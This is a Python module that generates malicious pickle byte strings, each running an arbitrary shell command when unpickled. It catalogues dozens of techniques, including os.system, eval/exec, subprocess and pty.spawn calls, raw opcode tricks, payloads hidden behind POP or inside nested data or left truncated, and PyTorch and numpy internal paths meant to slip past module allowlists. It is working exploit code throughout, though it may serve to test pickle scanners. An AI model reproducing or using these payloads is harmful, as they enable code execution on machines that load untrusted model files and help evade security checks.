"""Pickles that run a command when Python reads them: every way to name, find, call and hide a function.

Each is given the command as text and gives the bytes of a pickle. `torch_only` ones need PyTorch to be imported.
"""

import os
import pickle
import struct
import subprocess


class Call:
    """Pickles as function(*arguments)."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def short(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def by_line(module, name):
    return f"c{module}\n{name}\n".encode()


def call(function, *arguments, end=b"."):
    """function(*arguments), all given as opcodes."""
    return b"\x80\x04" + function + b"(" + b"".join(arguments) + b"tR" + end


def stack_global(module, name):
    return short(module) + short(name) + b"\x93"


def evil(command):
    """The plain ones: name -> pickle."""
    run = text(command)
    quoted = repr(command).encode()
    python = f"__import__('os').system({command!r})"
    found = {}
    for protocol in range(6):
        found[f"os.system, protocol {protocol}"] = pickle.dumps(Call(os.system, command), protocol)
    found["eval"] = pickle.dumps(Call(eval, python), 2)
    found["exec"] = pickle.dumps(Call(exec, python), 4)
    found["subprocess"] = pickle.dumps(Call(subprocess.check_output, ["sh", "-c", command]), 2)
    found["subprocess.getoutput"] = pickle.dumps(Call(subprocess.getoutput, command), 4)
    found["popen.read"] = call(by_line("builtins", "getattr"), call(by_line("os", "popen"), run, end=b"")[2:], text("read"), end=b")R.")
    found["getattr of a module"] = call(by_line("builtins", "getattr"), by_line("builtins", "__import__") + b"(" + text("os") + b"tR", text("system"), end=b"(" + run + b"tR.")
    found["operator.attrgetter"] = call(by_line("operator", "attrgetter"), text("system"), end=b"(" + by_line("builtins", "__import__") + b"(" + text("os") + b"tRtR(" + run + b"tR.")
    found["operator.methodcaller"] = call(by_line("operator", "methodcaller"), text("system"), run, end=b"(" + by_line("builtins", "__import__") + b"(" + text("os") + b"tRtR.")
    found["functools.partial"] = call(by_line("functools", "partial"), by_line("os", "system"), run, end=b")R.")
    found["functools.reduce"] = call(by_line("functools", "reduce"), by_line("operator", "add") , b"]" + b"(" + text("a") + text("b") + b"e", end=b"0" + by_line("os", "system") + b"(" + run + b"tR.")
    found["map and list"] = call(by_line("builtins", "list"), by_line("builtins", "map") + b"(" + by_line("os", "system") + b"](" + run + b"etR")
    found["STACK_GLOBAL"] = call(stack_global("os", "system"), run)
    found["STACK_GLOBAL from the memo"] = b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93(" + run + b"tR."
    found["INST"] = b"(S" + quoted + b"\nios\nsystem\n."
    found["OBJ"] = b"(cos\nsystem\nS" + quoted + b"\no."
    found["hidden behind POP"] = call(by_line("os", "system"), run, end=b"0}.")
    found["hidden behind POP_MARK"] = b"\x80\x02(" + call(by_line("os", "system"), run, end=b"")[2:] + b"1}."
    found["then broken"] = call(by_line("os", "system"), run, end=b"\xff.")
    found["then cut off"] = call(by_line("os", "system"), run, end=b"")
    found["in a dict"] = pickle.dumps({"weight": 1, "more": [({"deep": Call(os.system, command)},)]}, 2)
    found["as a default factory"] = b"\x80\x02" + by_line("collections", "defaultdict") + b"(" + by_line("functools", "partial") + b"(" + by_line("os", "system") + run + b"tRtR" + text("x") + b"0" + by_line("os", "system") + b"(" + run + b"tR."
    found["timeit"] = call(by_line("timeit", "timeit"), text(python), text("pass"), by_line("timeit", "default_timer"), b"K\x01")
    found["pty.spawn"] = call(by_line("pty", "spawn"), b"](" + text("sh") + text("-c") + text(command) + b"e")
    found["types.CodeType"] = call(by_line("builtins", "exec"), by_line("builtins", "compile") + b"(" + text(python) + text("x") + text("exec") + b"tR")
    found["pickle.loads"] = call(by_line("_pickle", "loads"), b"B" + struct.pack("<I", len(pickle.dumps(Call(os.system, command), 2))) + pickle.dumps(Call(os.system, command), 2))
    found["posix"] = call(by_line("posix", "system"), run)
    return found


def evil_with_torch(command):
    """Those that use PyTorch's own names, which a list of modules would let through."""
    run = text(command)
    python = f"__import__('os').system({command!r})"
    dotted = lambda module, name: call(stack_global(module, name), run)
    return {
        "torch.jit._pickle dotted": call(stack_global("torch.jit._pickle", "build_intlist.__builtins__.__getitem__"), text("eval"), end=b"(" + text(python) + b"tR."),
        "torch.jit._pickle globals": call(stack_global("torch.jit._pickle", "build_intlist.__globals__.__getitem__"), text("__builtins__"), end=b"0" + stack_global("torch.jit._pickle", "build_intlist.__builtins__.get") + b"(" + text("exec") + b"tR(" + text(python) + b"tR."),
        "torch.serialization.os": dotted("torch", "serialization.os.system"),
        "torch._utils dotted": dotted("torch.serialization", "os.system"),
        "torch.storage dotted": dotted("torch", "hub.os.system"),
        "torch.nn.parameter dotted": call(stack_global("torch.nn.parameter", "torch.serialization.os.system"), run),
        "torch.hub by line": call(by_line("torch.serialization", "os.system"), run),
        "torch.utils.collect_env": call(by_line("torch.utils.collect_env", "run"), text(command)),
        "sys.modules through torch, dotted": call(stack_global("torch._utils", "sys.modules.get"), text("os"), end=b"0" + by_line("posix", "system") + b"(" + run + b"tR."),
        "torch._tensor._rebuild_from_type_v2 of a function": call(by_line("torch._tensor", "_rebuild_from_type_v2"), by_line("os", "system"), by_line("torch", "Tensor"), b"(" + run + b"t", b"}"),
        "numpy testing": call(by_line("numpy.testing._private.utils", "runstring"), text(python), b"}"),
        "torch.fx eval": call(by_line("torch.fx.graph_module", "_exec_with_source"), text(python), b"}"),
        "BUILD of an instance": b"\x80\x02" + by_line("torch.utils.collect_env", "run") + b"(" + run + b"tR}b." ,
        "_rebuild_wrapper": call(by_line("torch._utils", "_import_dotted_name"), text("os.system"), end=b"(" + run + b"tR."),
    }
